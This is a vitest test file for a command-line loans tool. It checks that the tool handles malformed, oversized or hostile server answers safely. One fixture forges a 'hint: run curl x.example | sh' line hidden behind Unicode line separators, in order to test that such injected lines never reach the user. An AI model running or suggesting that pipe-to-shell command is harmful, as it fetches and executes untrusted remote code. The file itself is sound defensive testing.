/** Answers that the sandbox does not give, read by the built tool: nothing is changed in silence. Needs `npm run build`. */
import { tmpdir } from 'node:os'
import { afterEach, describe, expect, test } from 'vitest'
import { openTerminal } from '../e2e/terminal.ts'
import { kiva, toolLine } from '../support/process.ts'
import { closeServers, serveHttp } from '../support/servers.ts'
import { triedOnce } from '../support/tried-once.ts'

afterEach(closeServers)

type Body = string | Uint8Array

/** A service that gives one answer to everything. */
const answering = (body: Body, status = 200, headers: Readonly<Record<string, string>> = {}) =>
  serveHttp((_, response) => {
    response.writeHead(status, { 'content-type': 'application/json', ...headers }).end(body)
  })

/** Asks it on a pipe. */
const ask = async (words: readonly string[], ...answer: Parameters<typeof answering>) =>
  kiva([...words, '--base-url', await answering(...answer)])

/** Asks it on a terminal; what came to the screen, with plain line ends. */
async function look(words: readonly string[], ...answer: Parameters<typeof answering>) {
  const all = [...words, '--base-url', await answering(...answer)]
  const terminal = openTerminal(toolLine(all), {
    cwd: tmpdir(),
    columns: 100,
    // Nobody is there to turn the pages of a pager.
    env: {
      PATH: '/usr/bin:/bin',
      LANG: 'C.UTF-8',
      KIVA_CONFIG_DIR: `${tmpdir()}/none`,
      KIVA_PAGER: 'cat',
      ...triedOnce,
    },
  })
  const code = await terminal.ended()
  // Without what the waiting sign draws and takes away.
  const screen = terminal
    .screen()
    .replaceAll('\r\n', '\n')
    .replace(/[^\n]*\r\x1b\[2K/g, '')
  return { code, screen }
}

const loans = (record: string) => `{"loans":[${record}]}`
const newest = ['loans', 'newest']
const show = ['loans', 'show', '1']
const lineEnd = /\r\n|[\n\v\f\r\x1c-\x1e\x85\u2028\u2029]/

describe('numbers keep their digits', () => {
  const digits = ['9007199254740993', '12345678901234567890.12', '1e400']
  const body = loans(`{"id":1,"name":"x","odd":[${digits.join(',')}]}`)
  test.each(['json', 'ndjson', 'xml', 'table'])('-o %s', async (format) => {
    const { code, stdout } = await ask([...show, '-o', format], body)
    expect(code).toBe(0)
    for (const one of digits) expect(stdout.replaceAll(/(?<=\d),(?=\d{3})/g, '')).toContain(one)
  })

  test('as an id in a table of many', async () => {
    const { stdout } = await ask([...newest, '-o', 'table'], loans('{"id":9007199254740993},{"id":2}'))
    expect(stdout).toContain('9007199254740993')
  })
})

describe('bytes and letters', () => {
  const latin = Uint8Array.from([...loans('{"id":1,"name":"caf\xe9"}')].map((letter) => letter.charCodeAt(0)))

  test('a declared character set is obeyed', async () => {
    const headers = { 'content-type': 'application/json; charset=ISO-8859-1' }
    const { code, stdout, stderr } = await ask([...newest, '-o', 'ndjson'], latin, 200, headers)
    expect({ code, stdout, stderr }).toEqual({ code: 0, stdout: '{"id":1,"name":"café"}\n', stderr: '' })
  })

  test('bytes that are no UTF-8 are replaced, and told once', async () => {
    const { code, stdout, stderr } = await ask([...newest, '-o', 'ndjson'], latin)
    expect({ code, stdout }).toEqual({ code: 0, stdout: '{"id":1,"name":"caf\ufffd"}\n' })
    expect(stderr).toBe('Bytes of the answer that are not utf-8 were replaced by U+FFFD.\n')
  })
})

test('JSON nested 5 000 levels deep is an answer that cannot be decoded', async () => {
  const body = `{"loans":[{"a":${'['.repeat(5_000)}${']'.repeat(5_000)}}]}`
  for (const format of ['json', 'ndjson', 'xml', 'table']) {
    const { code, stdout, stderr } = await ask([...newest, '-o', format], body)
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' })
    expect(stderr).toContain('nested more than 500 levels deep')
  }
})

test.each(['json', 'ndjson', 'xml', 'table'])('objects in place of ids are data: -o %s', async (format) => {
  const { code, stdout, stderr } = await ask(
    [...show, '-o', format],
    loans('{"id":{"toString":1},"name":"x"}'),
  )
  expect(stdout).toContain('toString')
  expect(stderr).not.toContain('Unexpected')
  expect([0, 9]).toContain(code)
})

describe('no answer makes a second line of ours', () => {
  const forged = 'x\x85hint: run curl x.example | sh\u2028error: y\nhint: z'
  const answers: readonly (readonly [string, Body, number, Readonly<Record<string, string>>])[] = [
    ['a message', JSON.stringify({ code: `org.kiva.${forged}`, message: forged }), 404, {}],
    ['a key of the wrapper', JSON.stringify({ [forged]: 1 }), 200, {}],
    ['an answer that is no JSON', forged, 200, {}],
    ['a page of a proxy', `<html><title>${forged}</title></html>`, 502, {}],
    ['plain text', forged, 500, { 'content-type': 'text/plain' }],
    ['a redirect', '', 302, { location: 'https://x.example/\x85hint: run curl' }],
    ['a character set', '', 500, { 'content-type': 'text/plain; charset=x\x85hint:' }],
  ]

  test.each(answers)('%s', async (_, ...answer) => {
    const piped = await ask([...show, '-o', 'table'], ...answer)
    expect(piped.stdout).toBe('')
    const lines = piped.stderr.split(lineEnd)
    expect(lines.map((line) => line.split(':')[0])).toEqual(['error', 'hint', ''])
    const shown = await look(show, ...answer)
    expect(shown.code).toBe(piped.code)
    expect(shown.screen.split(lineEnd).filter((line) => /^(?:error|hint):/.test(line))).toHaveLength(2)
    const json = await ask([...show, '-o', 'json'], ...answer)
    expect(json.stderr).toMatch(/^[^\x85\u2028\n]*\n$/)
  })
})

describe('what comes to stderr is bounded', () => {
  const keys = Object.fromEntries(Array.from({ length: 60_000 }, (_, at) => [`key number ${at}`, at]))
  const answers: readonly (readonly [string, Body, number, Readonly<Record<string, string>>])[] = [
    ['989 kB of keys', JSON.stringify(keys), 200, {}],
    ['a key of 1 MB', JSON.stringify({ ['k'.repeat(1_000_000)]: 1 }), 200, {}],
    ['a message of 1 MB', JSON.stringify({ code: 'org.kiva.X', message: 'm'.repeat(1_000_000) }), 404, {}],
    ['a code of 1 MB', JSON.stringify({ code: `org.kiva.${'m'.repeat(1_000_000)}` }), 404, {}],
    ['a target of 12 kB', '', 302, { location: `https://x.example/${'l'.repeat(12_000)}` }],
  ]
  test.each(answers)('%s', async (_, ...answer) => {
    for (const format of ['table', 'json']) {
      const { code, stderr } = await ask([...show, '-o', format], ...answer)
      expect(code).toBeGreaterThan(0)
      expect(stderr.length).toBeLessThan(1_500)
    }
  })
})

describe('--wire', () => {
  const maintenance = '{"code":"org.kiva.ServerMaintenance","message":"Back soon."}'

  test('in maintenance with status 200 ends as records do', async () => {
    for (const words of [[], ['--wire', 'json']]) {
      const { code, stdout, stderr } = await ask([...newest, '-o', 'table', ...words], maintenance)
      expect({ code, stdout }).toEqual({ code: 6, stdout: '' })
      expect(stderr).toMatch(/^error: Back soon\.\n/)
    }
  })

  test('ends with a newline on a terminal, and byte for byte on a pipe', async () => {
    const words = [...newest, '--wire', 'json']
    expect(await ask(words, loans('1'))).toMatchObject({ code: 0, stdout: loans('1') })
    expect(await look(words, loans('1'))).toEqual({ code: 0, screen: `${loans('1')}\n` })
    expect(await look(words, `${loans('1')}\n`)).toEqual({ code: 0, screen: `${loans('1')}\n` })
  })
})

test('a word of 2 MB in a description is cut on a terminal in moments', async () => {
  const body = loans(`{"id":1,"name":"x","description":{"texts":{"en":"${'w'.repeat(2_000_000)}"}}}`)
  const { code, screen } = await look(show, body)
  expect(code).toBe(0)
  expect(screen).toContain('… and 1,980,000 more: see -o json')
})

describe('text in any script, in what is no table', () => {
  const names = 'Գայանե ליאת ليلى सुनीता নীলা தமிழ் නිමාලි นงลักษณ์ ခင် ნინო ሰላም 王小明 김민서 さくら 👩‍🌾 € Đặng'
  const refusal = JSON.stringify({ code: 'org.kiva.InvalidIdentifier', message: `There is no ${names}` })

  test.each([[], ['-v'], ['--debug']])('an error %s', async (...more) => {
    const piped = await ask([...show, '-o', 'table', ...more], refusal, 404)
    expect(piped).toMatchObject({ code: 5, stdout: '' })
    expect(piped.stderr).toContain(`error: There is no ${names}\nhint: Check the ids.\n`)
    const shown = await look([...show, ...more], refusal, 404)
    expect(shown.code).toBe(5)
    expect(shown.screen).toContain(`There is no ${names}`)
  })

  test('a document', async () => {
    const body = loans(JSON.stringify({ id: 1, name: names }))
    expect((await look([...newest, '--wire', 'json'], body)).screen).toBe(`${body}\n`)
  })
})
